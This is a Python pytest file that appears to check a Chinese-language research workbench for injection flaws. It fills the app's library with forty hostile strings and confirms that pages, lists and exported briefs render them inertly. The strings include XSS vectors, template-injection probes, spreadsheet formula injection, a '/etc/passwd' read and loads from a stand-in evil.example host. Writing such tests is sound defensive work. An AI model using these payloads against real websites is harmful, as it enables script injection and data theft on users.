"""Strings made to do harm, in whatever a library shows: every page shows them as text and runs nothing.

Each that could run calls ``canary()``, which a watched tab holds: a call, a dialog, a breach of the policy or a request
to another origin fails the test.
"""

from __future__ import annotations

import io
import json
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from asking import SAME_SITE, serve
from furnishing import NO_PAGES, OF_PEOPLE, OWNER, PASSWORD, route_paths
from starlette.testclient import TestClient

from gongxing.briefs import build_brief, parse_outline, render
from gongxing.library import Library
from gongxing.workbench import Settings, create_app

HOSTILE = (
    "<script>canary()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>canary()</script>",
    "</textarea><script>canary()</script>",
    "</script><script>canary()</script>",
    "<img src=x onerror=canary()>",
    "\"><img src=x onerror=canary()>",
    "'><svg onload=canary()>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><script href=data:text/javascript,canary()></script></svg>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<object data=data:text/html,<script>parent.canary()</script>>",
    "<a href=javascript:canary()>甲</a>",
    "<a href='java&#x0a;script:canary()'>乙</a>",
    "javascript:canary()",
    "data:text/html,<script>canary()</script>",
    "<form action=//evil.example><button>丙</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "\" autofocus onfocus=canary() x=\"",
    "' onmouseover='canary()",
    "<details open ontoggle=canary()>",
    "<video><source onerror=canary()></video>",
    "<!--><script>canary()</script>-->",
    "{{ canary() }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<div hx-get=/jobs hx-trigger=load>丁</div>",
    "＜script＞canary()＜/script＞",
    "\u202e<script>canary()</script>\u202c 倒",
    "\u200b<\u200bscript>canary()",
    "空\x00字<script>canary()</script>",
    "长" * 3000 + "<script>canary()</script>",
    "=HYPERLINK(\"//evil.example\",\"戊\")",
    "@SUM(A:A)|cmd",
    "datum['region'] + canary()",
    "#eval(\"canary()\") #read(\"/etc/passwd\")",
    "[己](javascript:canary()) ![庚](//evil.example/x.png) ``` +++ ]]> <w:p/> &amp; &lt;",
)  # fmt: skip


def test_there_are_forty() -> None:
    assert len(set(HOSTILE)) == 40


def article(number: int, text: str) -> bytes:
    """A document whose title, source, region, quotes and figures hold a string."""
    return (
        f"{text}\n发布时间：2024-02-{number % 28 + 1:02}\n来源：{text}\n"
        f"2023年，{text}市地区生产总值{number + 100}亿元。\n"
        f"绵阳市要建成“{text}”中试平台，{text}完成投资{number + 7}亿元。\n"
        f"{text}市委书记{text}说，推动{text}至成都的市域铁路S{number}线建设，通行时间由90分钟缩短至60分钟。\n"
    ).encode()


def table(texts: tuple[str, ...]) -> bytes:
    """A table whose header, regions and cells hold the strings."""
    rows = "\n".join(",".join(f'"{one}"' for one in (text.replace('"', '""'), 7)) for text in texts)
    return f'地区,"2023年{texts[0]}地区生产总值（亿元）"\n绵阳市,4038.73\n{rows}\n'.encode()


def scenario(text: str) -> str:
    said = json.dumps(text, ensure_ascii=True)
    return (
        f'title = {said}\n[economy]\nlibrary = true\nregions = "四川"\n[[travel_time]]\nproject = {said}\n'
        f'between = [{said}, "眉山"]\nchange = "?"\nby = {said}\nquote = {said}\nsuggested = [{said}, "-20%"]\n'
    )


def outline(text: str) -> str:
    return f'+++\ntitle = {json.dumps(text)}\nlanguage = "zh"\n+++\n\n# 题 {text}\n\n{text}\n'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A library in which every text that a person or a document gives is one of the strings."""
    place = tmp_path_factory.mktemp("hostile") / "library.db"
    with TestClient(
        create_app(place, Settings(create=True)), base_url="http://127.0.0.1", follow_redirects=False, headers=SAME_SITE
    ) as client:
        # No file is called by a NUL, a stroke or thousands of marks.
        names = [text.replace("\x00", "").replace("/", "∕")[-80:] for text in HOSTILE]
        files = [("files", (f"{name}.txt", article(number, HOSTILE[number]))) for number, name in enumerate(names)]
        files += [("files", (f"坏{name}.pdf", b"%PDF-1.7 broken")) for name in names]
        answer = client.post("/library", files=files)
        assert answer.status_code == 303, answer.text
        job = answer.headers["location"].split("?")[0]
        late = time.monotonic() + 120
        while not (state := client.get(f"{job}.json").json())["over"]:
            assert time.monotonic() < late
            time.sleep(0.1)
        assert state["state"] == "done", state["problem"]
    with Library(place) as library:
        sheet = place.parent / "表.csv"
        sheet.write_bytes(table(HOSTILE))
        library.ingest([sheet])
        state = library.status()
        refused = [one.reason for one in state.failures if not one.source.endswith(".pdf")]
        assert state.documents + state.tables + len(refused) == 41, refused
        assert len(refused) == 1 and "some other kind of data" in refused[0], refused  # that with a NUL in it
        facts = library.facts().get_column("id").to_list()
        for number, text in enumerate(HOSTILE):
            plain = text.replace("\x00", "")
            library.accept(facts[number % len(facts)], who=plain[:200])
            library.save_scenario(f"s{number}", title=plain, toml=scenario(text), files={}, who=plain[:200])
            library.save_brief(f"b{number}", title=plain, language="zh", outline=outline(plain), who=plain[:200])
            library.add_finding("doc:000000000000#1-2", plain, who=plain[:200])
        library.accounts.add(OWNER, "owner", PASSWORD, who="terminal")
    return place


@pytest.fixture(scope="module")
def hostile_address(hostile: Path) -> Iterator[str]:
    yield from serve(create_app(hostile))


# How many of what a route names are opened, and what they are called.
SHOWN: dict[str, Callable[[list[int]], list[str]]] = {
    "/regions/{name}": lambda _: [f"/regions/{quote(text, safe='')}" for text in HOSTILE[::4]],
    "/documents/{number}": lambda numbers: [f"/documents/{number}" for number in numbers],
    "/scenarios/{slug}": lambda _: [f"/scenarios/s{number}" for number in range(40)],
    "/briefs/{slug}": lambda _: [f"/briefs/b{number}" for number in range(40)],
    "/scenarios/{slug}/budget": lambda _: [f"/scenarios/s{number}/budget" for number in range(0, 40, 8)],
    "/library/uploads/{number}": lambda _: [],  # opened below
    "/search": lambda _: [f"/search?q={quote(text[:200])}&region={quote(text[:60])}" for text in HOSTILE[::4]],
    "/atlas": lambda _: ["/atlas", *(f"/atlas?indicator={quote(text[:200])}" for text in HOSTILE[::4])],
    "/board": lambda _: ["/board", *(f"/board?region={quote(text[:200])}" for text in HOSTILE[::8])],
    "/documents": lambda _: ["/documents", *(f"/documents?source={quote(text[:200])}" for text in HOSTILE[::8])],
    "/briefs/{slug}/brief.{form}": lambda _: [],  # asked of each brief's frame
    "/published/{permanent_id}": lambda _: [],
    "/help/measures/{name}": lambda _: [f"/help/measures/{quote(text, safe='')}" for text in HOSTILE[::8]],
    "/jobs/{job_id}": lambda _: [f"/jobs/{quote(text, safe='')}" for text in HOSTILE[::8]],
}
REFUSED = {400, 404, 422}


def test_every_page_shows_them_as_text(watched: Callable[..., Any], hostile: Path, hostile_address: str) -> None:
    tab = watched(hostile_address, locale="zh-CN")
    for status in ("400 (Bad Request)", "404 (Not Found)", "422 (Unprocessable Content)", "422 (Unprocessable Entity)"):
        tab.expected.add(f"Failed to load resource: the server responded with a status of {status}")
    with Library(hostile) as library:
        titles = {row["id"]: row["title"] or row["name"] for row in library.page_documents(limit=100).rows}
        scenarios = {f"/scenarios/{one.slug}": one.title for one in library.scenarios()}
        briefs = {f"/briefs/{one.slug}": one.title for one in library.briefs()}
    headings = {f"/documents/{number}": title for number, title in titles.items()} | scenarios | briefs
    opened = 0
    for path in route_paths(create_app(hostile)):
        if path in NO_PAGES or path.startswith(OF_PEOPLE):
            continue
        named = SHOWN[path](list(titles)) if path in SHOWN else [path]
        for address in named:
            answer = tab.goto(hostile_address + address, wait_until="load")
            assert answer.status == 200 or (answer.status in REFUSED and address not in headings), address
            opened += 1
            if address in headings:
                assert said(tab.locator("h1").text_content()) == said(headings[address]), address
    assert opened > 130
    assert tab.strays == []


def test_lists_show_every_one_as_it_is(watched: Callable[..., Any], hostile: Path, hostile_address: str) -> None:
    tab = watched(hostile_address, locale="zh-CN")
    for path in ("/scenarios", "/briefs"):
        tab.goto(hostile_address + path)
        shown = said(tab.locator("main").text_content())
        assert [text for text in HOSTILE if said(text.replace("\x00", "")) not in shown] == []
    assert tab.strays == []


def test_what_a_table_was_understood_to_say_is_text(watched: Callable[..., Any], hostile_address: str) -> None:
    tab = watched(hostile_address, locale="zh-CN")
    tab.goto(f"{hostile_address}/library")
    name = f"{HOSTILE[5]}.csv"
    tab.locator("#files").set_input_files({"name": name, "mimeType": "text/csv", "buffer": table(HOSTILE)})
    tab.locator("#drop button").click()
    tab.locator('[data-over="1"]').wait_for()
    tab.get_by_role("link", name="看结果").click()
    assert name in tab.locator("main").text_content()
    assert tab.strays == []


def test_those_who_log_in_see_them_as_text(
    watched: Callable[..., Any], as_owner: Callable[[Any, str], None], hostile: Path, serving: Callable[[Any], str]
) -> None:
    with Library(hostile) as library:
        person = next(one for one in library.accounts.people() if one.name == OWNER)
        for text in HOSTILE:
            library.accounts.share("/board", text[:80].replace("\x00", ""), 7, who=OWNER)
    assert person.role == "owner"
    address = serving(create_app(hostile, Settings(log_in=True, requests_each_second=10_000)))
    tab = watched(address, locale="zh-CN")
    as_owner(tab, address)
    for path in ("/shares", "/account", "/people", "/audit"):
        assert tab.goto(address + path).status == 200
    tab.goto(f"{address}/shares?path={quote('/<script>canary()</script>')}")
    assert tab.strays == []


def test_built_briefs_run_nothing_and_are_sound(
    watched: Callable[..., Any], hostile: Path, hostile_address: str
) -> None:
    tab = watched(hostile_address, javaScriptEnabled=True)
    for words in ("Content", "Entity"):
        tab.expected.add(f"Failed to load resource: the server responded with a status of 422 (Unprocessable {words})")
    built = 0
    with Library(hostile) as library:
        for number in range(40):
            answer = tab.goto(f"{hostile_address}/briefs/b{number}/brief.html")
            assert answer.status in (200, 422)
            if answer.status == 422:  # it holds a number without evidence
                continue
            built += 1
            if number % 6 == 0:
                brief = build_brief(parse_outline(library.brief(f"b{number}").outline), library)
                assert render(brief, "pdf").startswith(b"%PDF-")
                with zipfile.ZipFile(io.BytesIO(render(brief, "docx"))) as packed:
                    for name in packed.namelist():
                        if name.endswith((".xml", ".rels")):
                            ElementTree.fromstring(packed.read(name))
                    links = packed.read("word/_rels/document.xml.rels").decode()
                    assert "javascript:" not in links and "evil.example" not in links
    assert built >= 30
    assert tab.strays == []


def said(text: str | None) -> str:
    """Return a text as a reader compares it: white space is one space."""
    return " ".join((text or "").split())
